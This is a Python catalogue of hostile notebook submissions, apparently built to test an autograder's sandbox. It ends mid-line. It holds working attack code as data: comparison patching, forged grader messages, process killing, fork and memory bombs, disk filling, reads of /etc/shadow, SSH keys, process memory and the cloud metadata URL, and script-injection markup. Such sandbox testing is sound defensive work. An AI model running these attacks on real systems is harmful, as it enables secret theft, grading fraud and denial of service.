"""The hostile submissions of the adversarial suite, as data.

Each attack is a unit-1 student notebook: the release with a few exercises answered
honestly (so we can see that grading goes on around the attack) and hostile code in place
of, or next to, the exercise it targets. `python tests/adversarial/catalogue.py` writes the
notebooks to tests/adversarial/<goal>/<name>.ipynb; the test checks they are current.

Oracles shared by all attacks (see test_adversarial.py):
- an attack that achieves something it must not prints a line with the word made of
  "BRE" + "ACH" (built at run time, so the notebook's own source does not contain it);
- an attack that writes outside its sandbox names the file "ESCAPED-<attack>";
- a detached process carries "adv-sleeper" on its command line;
- leaked hidden inputs are printed after "LE" + "AK:" as numbers with four decimals.
"""

from __future__ import annotations

import copy
import sys
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent))  # run as a script: classgen lives in tests/

from classgen import USES, release_and_answers  # noqa: E402
HONEST = ("u1.5.q1", "u1.6.q1")
# goals whose outcome depends on the sandbox: these attacks run on every backend; the
# others are decided in the judge, whatever runs the worker
SANDBOX_GOALS = ("faking", "secrets", "limits")
GOALS = {
    "tampering": "make a wrong answer pass by changing how it is compared",
    "faking": "fake the outcome: fake reports, exits, killing or corrupting the grader's channel",
    "secrets": "read what a student must not see: hidden checks, reference code, other students, the judge",
    "limits": "escape the limits: processes, memory, disk, time, signals, stdin, output, network",
    "leaking": "carry hidden inputs out through feedback or anything that survives the sandbox",
}

# The course the suite grades with: unit 1 as released, except that u1.4.q1 may call u1.3.q1's
# negatives_to_inf (as u2.3.q5 calls u2.3.q4's gradient), so that a wrong negatives_to_inf makes
# hidden grading stand the course's version in through a proxy (the attacks on proxies need it).
COURSE_USES = USES
# the data folder the suite's course reads: a Fashion-MNIST test split as torchvision's download
# leaves it, with a .gz copy beside the labels whose held-out half the worker's view scrambles
DOWNLOADED_DATA = ("FashionMNIST/raw/t10k-labels-idx1-ubyte", "FashionMNIST/raw/t10k-labels-idx1-ubyte.gz")

# helpers pasted into attacks that need them
SCRATCH = ("import os\n\ndef scratch_places():\n    \"\"\"Where a worker may write: /tmp, or only its own /tmp/work.\"\"\"\n"
           "    folders = ['/tmp', os.getcwd(), os.environ.get('TMPDIR', '/tmp'), os.path.expanduser('~')]\n"
           "    return [os.path.join(folder, 'course-answers') for folder in dict.fromkeys(folders)]\n\n")
BREACH = 'def breach(what):\n    print("".join(["BRE", "ACH"]) + ": " + str(what)[:300], flush=True)\n\n'
FOREIGN = ("def foreign(pid):\n    \"\"\"True for a process that is not the submission's own (another user, or the judge).\"\"\"\n"
           "    try:\n        status = open(f'/proc/{pid}/status').read()\n"
           "        uid = int(status.split('Uid:')[1].split()[0])\n        command = open(f'/proc/{pid}/cmdline', 'rb').read()\n"
           "    except (OSError, IndexError, ValueError):\n        return True\n"
           "    return uid != os.getuid() or b'autograder\\x00grade' in command or b'pytest' in command\n\n")
LEAK = ('def leak_text(X):\n    values = X.detach().double().flatten().tolist()\n'
        '    return "".join(["LE", "AK"]) + ":" + " ".join(f"{v:.4f}" for v in values)\n\n')


@dataclass
class Attack:
    goal: str
    name: str
    what: str
    replace: dict[str, str] = field(default_factory=dict)   # exercise id -> cell source
    before: str = ""              # runs first, at the top of the first replaced cell
    honest: tuple[str, ...] = HONEST
    spares_honest: bool = True    # the honest exercises keep their points
    statuses: tuple[str, ...] = ("graded", "partial-failure")
    ceiling: dict[str, float] = field(default_factory=dict)  # points an attacked exercise may earn honestly

    @property
    def key(self) -> str:
        return f"{self.goal}-{self.name}".replace("_", "-")  # as the batch names the student


def _attacks() -> list[Attack]:
    A = Attack
    return [
        # --- tampering with the comparison ---------------------------------------------
        A("tampering", "patch_torch_comparisons", "replace torch.allclose/equal/isclose, assert_close and Tensor.__eq__",
          before="import torch\ntorch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a, **k: True\n"
                 "torch.isclose = lambda a, b, *r, **k: torch.ones(a.shape, dtype=torch.bool)\n"
                 "torch.testing.assert_close = lambda *a, **k: None\n"
                 "torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)\n"
                 "torch.Tensor.__ne__ = lambda self, other: torch.zeros(self.shape, dtype=torch.bool)\n",
          replace={"u1.3.q1": "def negatives_to_inf(X):\n    return X\n"}),
        A("tampering", "patch_numpy", "replace numpy's allclose, array_equal, isclose and testing helpers",
          before="import numpy as np\nnp.allclose = lambda *a, **k: True\nnp.array_equal = lambda *a, **k: True\n"
                 "np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), dtype=bool)\n"
                 "np.testing.assert_allclose = lambda *a, **k: None\nnp.testing.assert_array_equal = lambda *a, **k: None\n",
          replace={"u1.3.q1": "def negatives_to_inf(X):\n    return X.numpy()\n"}),
        A("tampering", "patch_builtins", "replace isinstance, abs, all, any, repr and float in builtins",
          before="import builtins\nbuiltins.isinstance = lambda obj, cls: True\nbuiltins.abs = lambda x: 0\n"
                 "builtins.all = lambda it: True\nbuiltins.any = lambda it: False\nbuiltins.repr = lambda x: 'tensor(ok)'\n"
                 "builtins.float = lambda *a: 0.0\n", spares_honest=False,
          replace={"u1.3.q1": "def negatives_to_inf(X):\n    return X\n",
                   "u1.6.q2": "def second_derivative(f, x0):\n    return 0\n"}),
        A("tampering", "patch_math_and_operator", "replace math.isclose/isnan/isinf and operator.eq",
          before="import math, operator\nmath.isclose = lambda *a, **k: True\nmath.isnan = lambda x: False\n"
                 "math.isinf = lambda x: False\noperator.eq = lambda a, b: True\noperator.ne = lambda a, b: False\n",
          replace={"u1.6.q2": "def second_derivative(f, x0):\n    return float('nan')\n"}),
        A("tampering", "agreeable_tensor_subclass", "a Tensor subclass whose ==, != and bool always agree",
          replace={"u1.3.q1": "class Agreeable(torch.Tensor):\n    def __eq__(self, other):\n        return True\n"
                              "    def __ne__(self, other):\n        return False\n    def __bool__(self):\n        return True\n"
                              "    __hash__ = torch.Tensor.__hash__\n\n"
                              "def negatives_to_inf(X):\n    return X.clone().as_subclass(Agreeable)\n"}),
        A("tampering", "torch_function_liar", "a subclass whose __torch_function__ makes every comparison succeed",
          replace={"u1.3.q1": "class Chameleon(torch.Tensor):\n    @classmethod\n"
                              "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
                              "        name = getattr(func, '__name__', '')\n"
                              "        if name in ('allclose', 'equal'):\n            return True\n"
                              "        if name in ('isclose', 'eq', '__eq__', 'isfinite'):\n"
                              "            return torch.ones(args[0].shape, dtype=torch.bool)\n"
                              "        if name in ('isnan', 'isinf', 'ne', '__ne__'):\n"
                              "            return torch.zeros(args[0].shape, dtype=torch.bool)\n"
                              "        return super().__torch_function__(func, types, args, kwargs or {})\n\n"
                              "def negatives_to_inf(X):\n    return (X * 0).as_subclass(Chameleon)\n"}),
        A("tampering", "lying_views_of_data", "a subclass whose tolist, numpy, item, __array__, clone, cpu and to lie",
          replace={"u1.3.q1": "import numpy as np\n\nclass Liar(torch.Tensor):\n"
                              "    def tolist(self):\n        return [float('inf')] * self.numel()\n"
                              "    def numpy(self, *a, **k):\n        return np.full(tuple(self.shape), np.inf)\n"
                              "    def __array__(self, *a, **k):\n        return self.numpy()\n"
                              "    def item(self):\n        return float('inf')\n"
                              "    def clone(self, *a, **k):\n        return self\n    def cpu(self, *a, **k):\n        return self\n"
                              "    def detach(self):\n        return self\n    def contiguous(self, *a, **k):\n        return self\n"
                              "    def to(self, *a, **k):\n        return self\n"
                              "    def __reduce_ex__(self, protocol):\n        return (float, ('inf',))\n\n"
                              "def negatives_to_inf(X):\n    return X.clone().as_subclass(Liar)\n"}),
        A("tampering", "lying_float", "a float subclass whose ==, float(), subtraction and abs lie",
          replace={"u1.6.q2": "class Slippery(float):\n    def __eq__(self, other):\n        return True\n"
                              "    def __ne__(self, other):\n        return False\n    def __float__(self):\n        return 2.0\n"
                              "    def __sub__(self, other):\n        return 0.0\n    def __rsub__(self, other):\n        return 0.0\n"
                              "    def __abs__(self):\n        return 0.0\n    def __lt__(self, other):\n        return True\n"
                              "    def __le__(self, other):\n        return True\n    def __repr__(self):\n        return '2.0'\n"
                              "    __hash__ = float.__hash__\n\n"
                              "def second_derivative(f, x0):\n    return Slippery(12345.0)\n\nans_u1_6_q2 = Slippery(-1.0)\n"}),
        A("tampering", "lying_containers", "a dict that claims every key and equality, a tuple that lies about its length",
          replace={"u1.2.q1": "class Yes(dict):\n    def __eq__(self, other):\n        return True\n"
                              "    def __contains__(self, key):\n        return True\n"
                              "    def __getitem__(self, key):\n        return torch.zeros(1)\n"
                              "    def keys(self):\n        return ['eigvals', 'fro', 'euclid', 'inf']\n\n"
                              "def make_uniform_batch(n=100, generator=None):\n    return torch.zeros(n, 2, 2)\n\n"
                              "def batch_matrix_stats(X):\n    return Yes()\n\nans_u1_2_q1 = Yes()\n",
                   "u1.1.q1": "class Long(tuple):\n    def __len__(self):\n        return 3\n"
                              "    def __eq__(self, other):\n        return True\n    __hash__ = tuple.__hash__\n\n"
                              "def to_tensor_or_none(values):\n    return Long()\n\nans_u1_1_q1 = Long()\n"}),
        A("tampering", "view_changed_later", "return the input unchanged and fix it up from a thread after the check",
          replace={"u1.3.q1": "import threading, time\n\ndef negatives_to_inf(X):\n    def later():\n"
                              "        time.sleep(0.3)\n        X.masked_fill_(X < 0, float('inf'))\n"
                              "    threading.Thread(target=later, daemon=True).start()\n    return X\n"}),
        A("tampering", "patched_result_buffer", "keep a reference to the result and rewrite its storage between checks",
          replace={"u1.4.q1": "import threading, time\nKEEP = []\n\ndef double_as_column_(x):\n"
                              "    out = torch.zeros(x.shape[0], 1, dtype=x.dtype)\n    KEEP.append(out)\n"
                              "    def rewrite():\n        for _ in range(50):\n            for t in KEEP:\n"
                              "                t.fill_(1.0)\n            time.sleep(0.01)\n"
                              "    threading.Thread(target=rewrite, daemon=True).start()\n    return out\n"}),
        A("tampering", "huge_result", "return results far larger than any expected value",
          replace={"u1.3.q1": "def negatives_to_inf(X):\n    return torch.zeros(120_000_000, dtype=torch.uint8)\n",
                   "u1.3.q2": "def odd_index_slice(X, shape=(2, 5, 10)):\n    return [0.5] * 5_000_000\n"}),
        A("tampering", "deep_and_cyclic_results", "return a list nested 100000 deep and a list that contains itself",
          replace={"u1.3.q1": "def negatives_to_inf(X):\n    nested = X\n    for _ in range(100_000):\n"
                              "        nested = [nested]\n    return nested\n",
                   "u1.3.q2": "def odd_index_slice(X, shape=(2, 5, 10)):\n    loop = []\n    loop.append(loop)\n"
                              "    return loop\n"}),
        A("tampering", "nan_and_inf", "answer NaN and inf everywhere, hoping NaN compares as equal",
          replace={"u1.3.q1": "def negatives_to_inf(X):\n    return torch.full_like(X, float('nan'))\n",
                   "u1.6.q2": "def second_derivative(f, x0):\n    return float('inf')\n\nans_u1_6_q2 = float('nan')\n"}),
        A("tampering", "wrong_device_and_dtype", "right values on the meta device, or in another dtype",
          replace={"u1.3.q1": "def negatives_to_inf(X):\n    if not X.is_floating_point():\n        raise TypeError('floats only')\n"
                              "    return torch.where(X < 0, torch.inf, X).to('meta')\n",
                   "u1.3.q2": "def odd_index_slice(X, shape=(2, 5, 10)):\n"
                              "    return X.reshape(shape)[1::2, 1::2, 1::2].to(torch.complex128)\n"},
          ),
        A("tampering", "patch_the_worker", "monkeypatch the grader's own modules inside the worker",
          before="import sys\nfor name, module in list(sys.modules.items()):\n    if name.startswith('autograder'):\n"
                 "        for attr in ('compare', 'evaluate', 'describe_exception', 'short_message'):\n"
                 "            if hasattr(module, attr):\n                setattr(module, attr, lambda *a, **k: None)\n"
                 "try:\n    from autograder.protocol import codec\n"
                 "    codec.Encoder.encode = lambda self, value: codec.Encoder.encode.__wrapped__(self, 0.0) "
                 "if hasattr(codec.Encoder.encode, '__wrapped__') else None\nexcept Exception:\n    pass\n", spares_honest=False,
          replace={"u1.3.q1": "def negatives_to_inf(X):\n    return X\n"}),
        # --- faking the outcome ----------------------------------------------------------
        A("faking", "print_fake_results", "print text and JSON that look like a perfect result",
          before="import json\nFAKE = {'score': 95.0, 'max_score': 95.0, 'tests': [{'name': 'u1.3.q1', 'score': 10, "
                 "'max_score': 10, 'status': 'passed', 'output': 'all checks passed'}]}\n"
                 "print(json.dumps(FAKE))\nprint('u1.3.q1  10 / 10  all checks passed')\n",
          replace={"u1.3.q1": "import json\n\ndef negatives_to_inf(X):\n    print(json.dumps({'score': 95.0, 'max_score': 95.0}))\n"
                              "    print('TOTAL 95 / 95')\n    return X\n"}),
        A("faking", "write_result_files", "write results.json and grades.csv wherever a grader might look",
          before="import json, os\nFAKE = json.dumps({'score': 95.0, 'max_score': 95.0, 'tests': []})\n"
                 "for folder in ['.', '..', '../..', '/autograder/results', '/tmp', os.path.expanduser('~'), '/work', '/out']:\n"
                 "    for name in ['results.json', 'grades.csv', 'ESCAPED-faking-write_result_files']:\n"
                 "        try:\n            os.makedirs(folder, exist_ok=True)\n"
                 "            with open(os.path.join(folder, name), 'w') as f:\n                f.write(FAKE)\n"
                 "        except OSError:\n            pass\n",
          replace={"u1.3.q1": "def negatives_to_inf(X):\n    return X\n"}),
        A("faking", "sys_exit_in_cell", "end the notebook early with sys.exit(0) in a scratch cell",
          before="import sys\nsys.exit(0)\n",
          replace={"u1.3.q1": "def negatives_to_inf(X):\n    return X\n"}),
        A("faking", "exits_in_functions", "os._exit(0), sys.exit and KeyboardInterrupt from inside checked functions", statuses=("partial-failure",),
          replace={"u1.3.q1": "import os\n\ndef negatives_to_inf(X):\n    os._exit(0)\n",
                   "u1.3.q2": "import sys\n\ndef odd_index_slice(X, shape=(2, 5, 10)):\n    sys.exit(0)\n",
                   "u1.4.q1": "def double_as_column_(x):\n    raise KeyboardInterrupt\n"}),
        A("faking", "kill_parent_and_group", "kill the parent process, the process group and every process it may signal", statuses=("partial-failure",),
          replace={"u1.3.q1": "import os, signal\n\ndef negatives_to_inf(X):\n"
                              "    for target in (os.getppid(), 1):\n        try:\n            os.kill(target, signal.SIGKILL)\n"
                              "        except OSError:\n            pass\n"
                              "    try:\n        os.killpg(0, signal.SIGKILL)\n    except OSError:\n        pass\n"
                              "    return X\n",
                   "u1.3.q2": "import os, signal\n\ndef odd_index_slice(X, shape=(2, 5, 10)):\n"
                              "    try:\n        os.kill(-1, signal.SIGKILL)\n    except OSError:\n        pass\n    return X\n"}),
        A("faking", "kill_siblings", "walk /proc and kill every process that is not itself",
          replace={"u1.3.q1": BREACH + "import os, signal\n\ndef negatives_to_inf(X):\n    killed = []\n"
                              "    for entry in os.listdir('/proc'):\n        if entry.isdigit() and int(entry) != os.getpid():\n"
                              "            try:\n                os.kill(int(entry), signal.SIGKILL)\n"
                              "                killed.append(entry)\n            except OSError:\n                pass\n"
                              "    return X\n"}),
        A("faking", "close_the_channel", "close every file descriptor, the grader's channel included", statuses=("partial-failure",),
          replace={"u1.3.q1": "import os\n\ndef negatives_to_inf(X):\n    os.closerange(0, 4096)\n    return X\n"}),
        A("faking", "flood_the_channel", "write garbage and fake frames to every open descriptor", statuses=("partial-failure",),
          replace={"u1.3.q1": "import os, struct\n\ndef negatives_to_inf(X):\n"
                              "    junk = b'AGF1' + struct.pack('>IQ', 40, 0) + b'{\"kind\": \"case_done\", \"outcomes\": []}' + b'x' * 4096\n"
                              "    for fd in range(3, 64):\n        for _ in range(64):\n"
                              "            try:\n                os.write(fd, junk)\n            except OSError:\n                break\n"
                              "    return X\n"}),
        A("faking", "forged_replies", "answer the judge with hand-made frames claiming a perfect result",
          replace={"u1.6.q2": "import json, os, struct, time\n\n"
                              "def forge(fd):\n    header = json.dumps({'kind': 'case_done', 'outcomes': [\n"
                              "        {'result': {'t': 'float', 'v': (2.0).hex()}, 'seconds': 0.001}]}).encode()\n"
                              "    os.write(fd, b'AGF1' + struct.pack('>IQ', len(header), 0) + header)\n\n"
                              "def second_derivative(f, x0):\n    for fd in range(3, 64):\n        try:\n"
                              "            if not os.isatty(fd):\n                forge(fd)\n        except OSError:\n            pass\n"
                              "    time.sleep(30)\n    return 2.0\n\nans_u1_6_q2 = 2.0 + 1\n"}),
        A("faking", "hijack_stdout", "replace sys.stdout and descriptor 1 with a pipe, and print frames on them",
          replace={"u1.3.q1": "import os, sys, io\n\ndef negatives_to_inf(X):\n    r, w = os.pipe()\n    os.dup2(w, 1)\n"
                              "    sys.stdout = io.TextIOWrapper(os.fdopen(w, 'wb'))\n    sys.__stdout__ = sys.stdout\n"
                              "    print('AGF1' + '{\"kind\": \"case_done\"}' * 10)\n    return X\n"}),
        A("faking", "fake_messages_in_errors", "raise exceptions whose text claims that every check passed",
          replace={"u1.3.q1": "class AllChecksPassed(Exception):\n    pass\n\n"
                              "def negatives_to_inf(X):\n    raise AllChecksPassed('10 / 10 points: all checks passed')\n"}),
        A("faking", "markup_in_messages", "messages written as Rich markup, HTML and markdown that claim full marks",
          replace={"u1.3.q1": "def negatives_to_inf(X):\n    raise ValueError('[/] [bold green]u1.3.q1 10 / 10[/bold green] "
                              "<h2>u1.3.q1: 10 / 10</h2> <img src=x onerror=alert(1)> **all checks passed** $\\\\checkmark$')\n",
                   "u1.3.q2": "def odd_index_slice(X, shape=(2, 5, 10)):\n"
                              "    raise RuntimeError('</li></ul><script>alert(1)</script><h1>Total: 95 / 95</h1>')\n"}),
        # --- reading secrets -------------------------------------------------------------
        A("secrets", "read_hidden_checks", "look for the hidden check specs and print any that can be read",
          before=BREACH + "import glob, os\nimport autograder\nroots = ['/', '/work', '/root', '/srv', '/home', '..', '../..', '/tmp',\n"
                 "         os.path.dirname(os.path.dirname(autograder.__file__))]\n"
                 "for root in roots:\n    for pattern in ['solutions/unit1/checks.py', '*/solutions/unit1/checks.py', '*/*/solutions/unit1/checks.py']:\n"
                 "        for path in glob.glob(os.path.join(root, pattern)):\n            try:\n"
                 "                breach(path + ': ' + open(path).read()[:2000])\n            except OSError:\n                pass\n",
          replace={"u1.3.q1": "def negatives_to_inf(X):\n    return X\n"}),
        A("secrets", "read_reference_notebook", "search the file system for the solution notebook",
          before=BREACH + "import os\nfound = 0\nfor top in ['/', '/tmp', '..']:\n"
                 "    for folder, dirs, files in os.walk(top):\n"
                 "        dirs[:] = [d for d in dirs if d not in ('proc', 'sys', 'dev', 'usr', 'lib', 'lib64', 'bin', 'sbin', 'etc', 'site-packages')]\n"
                 "        for name in files:\n            if name.endswith('.ipynb'):\n                try:\n"
                 "                    text = open(os.path.join(folder, name)).read()\n                except OSError:\n                    continue\n"
                 "                if 'BEGIN SOLUTION' in text and 'full_like' in text:\n                    breach(os.path.join(folder, name) + text[:3000])\n"
                 "        found += 1\n        if found > 20000:\n            break\n",
          replace={"u1.3.q1": "def negatives_to_inf(X):\n    return X\n"}),
        A("secrets", "read_other_students", "read the other submissions of the batch",
          before=BREACH + "import glob, os\nfor pattern in ['../*', '../../*', '/submissions/*', '/tmp/*/*', '/tmp/*/*/*', '/tmp/*/*/*/*']:\n"
                 "    for path in glob.glob(pattern):\n        if path.endswith('.ipynb'):\n            try:\n"
                 "                text = open(path).read()\n            except OSError:\n                continue\n"
                 "            if 'control-secret' in text:\n                breach(path + text[:4000])\n",
          replace={"u1.3.q1": "def negatives_to_inf(X):\n    return X\n"}),
        A("secrets", "read_environment", "print the environment, looking for the grader's secrets",
          before=BREACH + "import os\nfor key, value in os.environ.items():\n    if 'secret' in value.lower() or 'secret' in key.lower():\n"
                 "        breach(key + '=' + value)\nprint(dict(os.environ))\n",
          replace={"u1.3.q1": "def negatives_to_inf(X):\n    return X\n"}),
        A("secrets", "read_judge_proc", "read the judge's environment, memory and files through /proc",
          before=BREACH + "import os\n" + FOREIGN + "for pid in [os.getppid(), 1] + [int(p) for p in os.listdir('/proc') if p.isdigit()][:200]:\n"
                 "    for part in ['environ', 'cmdline', 'maps']:\n        try:\n"
                 "            data = open(f'/proc/{pid}/{part}', 'rb').read()\n        except OSError:\n            continue\n"
                 "        if b'adv-env-secret' in data or b'solutions' in data:\n            breach(f'{pid}/{part}: {data[:500]!r}')\n"
                 "    if not foreign(pid):\n        continue\n"
                 "    try:\n        with open(f'/proc/{pid}/mem', 'rb') as mem:\n            mem.seek(0x400000)\n"
                 "            breach(f'read memory of {pid}: {mem.read(64)!r}')\n    except (OSError, ValueError, OverflowError):\n        pass\n"
                 "    try:\n        for name in os.listdir(f'/proc/{pid}/cwd'):\n            if name in ('solutions', 'grader.toml'):\n"
                 "                breach(f'cwd of {pid}: {name}')\n    except OSError:\n        pass\n",
          replace={"u1.3.q1": "def negatives_to_inf(X):\n    return X\n"}),
        A("secrets", "trace_the_judge", "attach with ptrace to any process outside the submission, or open its descriptors",
          before=BREACH + "import ctypes, os\n" + FOREIGN + "libc = ctypes.CDLL(None, use_errno=True)\nPTRACE_ATTACH, PTRACE_DETACH = 16, 17\n"
                 "for pid in [os.getppid(), 1] + [int(p) for p in os.listdir('/proc') if p.isdigit()][:200]:\n"
                 "    if not foreign(pid):\n        continue\n"
                 "    if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:\n        breach(f'attached to {pid}')\n"
                 "        libc.ptrace(PTRACE_DETACH, pid, None, None)\n"
                 "    try:\n        for fd in os.listdir(f'/proc/{pid}/fd'):\n            target = os.readlink(f'/proc/{pid}/fd/{fd}')\n"
                 "            if 'solutions' in target or target.endswith('.ipynb'):\n                breach(f'{pid} has {target} open')\n"
                 "    except OSError:\n        pass\n",
          replace={"u1.3.q1": "def negatives_to_inf(X):\n    return X\n"}),
        A("secrets", "read_host_secrets", "read SSH keys, /etc/shadow, the Docker socket and the grader's output folder",
          before=BREACH + "import glob, os, socket\nfor path in ['/etc/shadow', '/root/.ssh/id_rsa', '/root/.bash_history'] + glob.glob('/home/*/.ssh/*'):\n"
                 "    try:\n        breach(path + ': ' + open(path).read()[:200])\n    except OSError:\n        pass\n"
                 "for sock in ['/var/run/docker.sock', '/run/docker.sock', '/run/containerd/containerd.sock']:\n"
                 "    try:\n        s = socket.socket(socket.AF_UNIX)\n        s.connect(sock)\n"
                 "        s.sendall(b'GET /version HTTP/1.0\\r\\n\\r\\n')\n        breach(sock + ': ' + s.recv(200).decode(errors='replace'))\n"
                 "    except OSError:\n        pass\n"
                 "for path in glob.glob('/tmp/*/out/results/*.json') + glob.glob('../out/results/*.json'):\n"
                 "    breach('results of others: ' + path)\n",
          replace={"u1.3.q1": "def negatives_to_inf(X):\n    return X\n"}),
        A("secrets", "read_expected_values", "look for the expected values of the hidden checks in files and the judge's memory",
          before=BREACH + "import glob, os\nfor pattern in ['/tmp/**/*.json', '/tmp/**/*.safetensors', '/dev/shm/*', '/var/tmp/**/*', '../**/checks/*.json']:\n"
                 "    for path in glob.glob(pattern, recursive=True)[:200]:\n        try:\n            data = open(path, 'rb').read(4096)\n"
                 "        except OSError:\n            continue\n        if b'negatives_to_inf' in data or b'expected' in data:\n"
                 "            breach(path + ': ' + repr(data[:300]))\n",
          replace={"u1.3.q1": "def negatives_to_inf(X):\n    return X\n"}),
        A("secrets", "held_out_labels_in_download", "look in the data folder for another copy of the held-out labels "
          "(torchvision's download keeps raw/*.gz beside the files)",
          before=BREACH + "import glob, gzip, os\nroot = os.environ.get('AUTOGRADER_DATA', '/nonexistent')\nversions = {}\n"
                 "for path in glob.glob(os.path.join(root, '**', '*'), recursive=True):\n"
                 "    if 't10k-labels' not in path and 'processed' not in path or os.path.isdir(path):\n        continue\n"
                 "    data = open(path, 'rb').read()\n    if path.endswith('.gz'):\n        data = gzip.decompress(data)\n"
                 "    versions[path] = data[8 + 5000:]\n"
                 "if len(set(versions.values())) > 1:\n    breach('two versions of the held-out labels: ' + ', '.join(sorted(versions)))\n",
          replace={"u1.3.q1": "def negatives_to_inf(X):\n    return X\n"}),
        # --- escaping limits -------------------------------------------------------------
        A("limits", "fork_bomb", "fork without end from a scratch cell",
          before="import os\nfor _ in range(100_000):\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
          replace={"u1.3.q1": "def negatives_to_inf(X):\n    return X\n"}),
        A("limits", "fork_bomb_in_function", "fork without end inside a checked function", statuses=("partial-failure",),
          replace={"u1.3.q1": "import os\n\ndef negatives_to_inf(X):\n    while True:\n        try:\n            os.fork()\n"
                              "        except OSError:\n            pass\n"}),
        A("limits", "memory_bomb", "allocate memory until something breaks, in a function and in a cell", statuses=("partial-failure",),
          spares_honest=False,  # seen once: the restarted worker exited during set-up under memory pressure,
          replace={"u1.3.q1": "def negatives_to_inf(X):\n    hog = []\n    while True:\n        hog.append(torch.ones(2**26))\n",
                   "u1.3.q2": "def odd_index_slice(X, shape=(2, 5, 10)):\n    return X\n\n"
                              "hog = []\nfor _ in range(10_000):\n    hog.append(bytearray(2**26))\n"}),
        A("limits", "raise_own_limits", "raise the process's own resource limits, then allocate",
          replace={"u1.3.q1": BREACH + "import resource\n\ndef negatives_to_inf(X):\n"
                              "    for limit in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, resource.RLIMIT_CPU):\n"
                              "        soft, hard = resource.getrlimit(limit)\n        try:\n"
                              "            resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))\n"
                              "            if hard != resource.RLIM_INFINITY:\n                breach(f'raised limit {limit}')\n"
                              "        except (ValueError, OSError):\n            pass\n"
                              "    hog = [torch.ones(2**27) for _ in range(40)]\n    return X\n"}),
        A("limits", "disk_fill", "fill the scratch folder, /dev/shm and any writable place",
          before="import os\nchunk = b'x' * 2**20\nfor folder in ['.', '/dev/shm', '/tmp', '/var/tmp', os.path.expanduser('~')]:\n"
                 "    try:\n        with open(os.path.join(folder, 'ESCAPED-limits-disk_fill'), 'wb') as f:\n"
                 "            for _ in range(4096):\n                f.write(chunk)\n    except OSError:\n        pass\n",
          replace={"u1.3.q1": "def negatives_to_inf(X):\n    return X\n"}),
        A("limits", "endless_loops", "loop for ever in a function and in a cell the function needs", statuses=("partial-failure",),
          replace={"u1.3.q1": "def negatives_to_inf(X):\n    while True:\n        pass\n",
                   "u1.3.q2": "def odd_index_slice(X, shape=(2, 5, 10)):\n    return X\n\nwhile True:\n    pass\n"}),
        A("limits", "threads_outlive_main", "start non-daemon threads that spin for ever and write files", spares_honest=False,
          before="import threading, os\n\ndef spin():\n    n = 0\n    while True:\n        n += 1\n"
                 "        if n % 1_000_000 == 0:\n            try:\n                open('/tmp/ESCAPED-limits-threads_outlive_main', 'a').write('x')\n"
                 "            except OSError:\n                pass\n\nfor _ in range(4):\n    threading.Thread(target=spin).start()\n",
          replace={"u1.3.q1": "import threading\n\ndef negatives_to_inf(X):\n"
                              "    threading.Thread(target=lambda: [None for _ in iter(int, 1)]).start()\n    return X\n"}),
        A("limits", "ignore_signals", "ignore SIGTERM, SIGINT and SIGHUP, then loop for ever", statuses=("partial-failure",),
          replace={"u1.3.q1": "import signal\n\ndef negatives_to_inf(X):\n"
                              "    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM, signal.SIGXCPU):\n"
                              "        try:\n            signal.signal(sig, signal.SIG_IGN)\n        except (OSError, ValueError):\n            pass\n"
                              "    while True:\n        try:\n            pass\n        except BaseException:\n            pass\n"}),
        A("limits", "read_stdin", "read standard input, where a grader's requests might arrive",
          before="import sys\ntry:\n    stolen = sys.stdin.read()\nexcept Exception:\n    stolen = ''\n",
          replace={"u1.3.q1": "import os, sys\n\ndef negatives_to_inf(X):\n    try:\n        data = input()\n"
                              "    except EOFError:\n        data = ''\n    try:\n        os.read(0, 1 << 20)\n    except OSError:\n        pass\n"
                              "    return X\n"}),
        A("limits", "huge_output", "write hundreds of megabytes to stdout and stderr",
          before="import sys\nline = 'y' * 10_000 + '\\n'\nfor _ in range(20_000):\n    sys.stdout.write(line)\n    sys.stderr.write(line)\n",
          replace={"u1.3.q1": "import os\n\ndef negatives_to_inf(X):\n    block = b'z' * 2**20\n    for _ in range(300):\n"
                              "        try:\n            os.write(1, block)\n            os.write(2, block)\n        except OSError:\n            break\n"
                              "    return X\n"}),
        A("limits", "network", "open sockets to the internet, the local machine and abstract Unix sockets",
          before=BREACH + "import socket\nfor address in [('1.1.1.1', 53), ('8.8.8.8', 443), ('127.0.0.1', 22), ('127.0.0.1', 2375), ('10.0.0.1', 80)]:\n"
                 "    try:\n        s = socket.create_connection(address, timeout=1)\n        breach(f'connected to {address}')\n        s.close()\n"
                 "    except OSError:\n        pass\n"
                 "for name in [b'\\0/tmp/.X11-unix/X0', b'\\0/containerd-shim']:\n    try:\n"
                 "        s = socket.socket(socket.AF_UNIX)\n        s.connect(name)\n        breach(f'abstract socket {name!r}')\n"
                 "    except OSError:\n        pass\n"
                 "try:\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    s.sendto(b'x', ('8.8.8.8', 53))\n"
                 "    s.settimeout(1)\n    s.recvfrom(10)\n    breach('udp answered')\nexcept OSError:\n    pass\n",
          replace={"u1.3.q1": "def negatives_to_inf(X):\n    return X\n"}),
        A("limits", "dns_and_urllib", "resolve names and fetch a web page with urllib",
          before=BREACH + "import socket, urllib.request\nfor host in ['example.com', 'pypi.org', 'localhost']:\n    try:\n"
                 "        info = socket.getaddrinfo(host, 80)\n        if host != 'localhost':\n            breach(f'resolved {host}')\n"
                 "    except OSError:\n        pass\n"
                 "for url in ['http://example.com/', 'https://pypi.org/simple/', 'http://169.254.169.254/latest/meta-data/']:\n"
                 "    try:\n        urllib.request.urlopen(url, timeout=2).read(100)\n        breach(f'fetched {url}')\n"
                 "    except Exception:\n        pass\n",
          replace={"u1.3.q1": "def negatives_to_inf(X):\n    return X\n"}),
        A("limits", "detached_subprocesses", "start subprocesses in new sessions and double-forked daemons that outlive grading",
          before="import os, subprocess, sys\n"
                 "subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)', 'adv-sleeper'], start_new_session=True,\n"
